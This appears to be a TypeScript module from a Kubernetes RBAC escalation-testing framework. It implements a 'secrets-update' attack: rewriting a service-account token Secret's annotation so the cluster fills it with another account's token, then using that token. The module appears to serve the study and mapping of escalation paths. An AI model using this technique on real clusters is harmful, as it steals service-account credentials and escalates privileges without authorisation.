import { ensure, must, pathOf, waitFor } from "../../control-plane/act.ts";
import type { Stored } from "../../control-plane/story.ts";
import type { Attack } from "./attack.ts";
import { getWith, READER, reader, valueIn, type Stage } from "./stage.ts";

const TOKEN = "old-token";

function tokenSecret({ namespace }: Stage, account: string): Stored {
  const annotations = { "kubernetes.io/service-account.name": account };
  const type = "kubernetes.io/service-account-token";
  return { apiVersion: "v1", kind: "Secret", metadata: { namespace, name: TOKEN, annotations }, type };
}

/** The account that a token speaks for. */
function subjectOf(token: string): string {
  return JSON.parse(Buffer.from(token.split(".")[1]!, "base64url").toString()).sub;
}

export const attacks: Attack[] = [
  {
    edge: "secrets-update",
    how: "a token Secret that it may read, made to hold a token of an account that may read the Secret",
    rights: (stage) => [stage.here("update", "secrets", TOKEN), stage.here("get", "secrets", TOKEN)],
    arrange: async (stage) => {
      const { plane, namespace } = stage;
      await reader(stage);
      await plane.request("DELETE", pathOf("Secret", namespace, TOKEN));
      await ensure(plane, { apiVersion: "v1", kind: "ServiceAccount", metadata: { namespace, name: "harmless" } });
      await must(plane, "POST", pathOf("Secret", namespace), tokenSecret(stage, "harmless"));
      await waitFor("the first token", async () => {
        return (await must(plane, "GET", pathOf("Secret", namespace, TOKEN)))["data"]?.token !== undefined;
      });
    },
    attack: async (stage) => {
      const path = pathOf("Secret", stage.namespace, TOKEN);
      await stage.send("PUT", path, tokenSecret(stage, READER));
      for (let tries = 0; tries < 200; tries++) {
        const secret = await stage.send("GET", path);
        const token = secret["data"]?.token === undefined ? null : valueIn(secret, "token");
        if (token !== null && subjectOf(token).endsWith(`:${READER}`)) return getWith(stage, token);
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      throw new Error("no token of the other account came into the Secret in ten seconds");
    },
  },
];
